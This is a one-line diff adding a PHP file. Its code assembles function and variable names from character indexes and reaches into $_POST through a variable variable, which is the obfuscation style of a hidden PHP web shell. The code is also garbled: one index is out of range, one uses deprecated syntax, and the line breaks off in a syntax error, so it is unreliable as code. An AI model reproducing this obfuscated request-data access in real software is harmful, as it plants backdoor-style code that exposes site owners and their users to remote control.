@@ -1,0 +1,1 @@
+<?php $s = "ceo64dtbas_p"; $f = $s[7].$s[8].$s{9}.$s[1]; $g = 'ab'[5]; $p = strtoupper( "_p".'ost' ); ${$p}[0]; strtolower('a'; "x"[
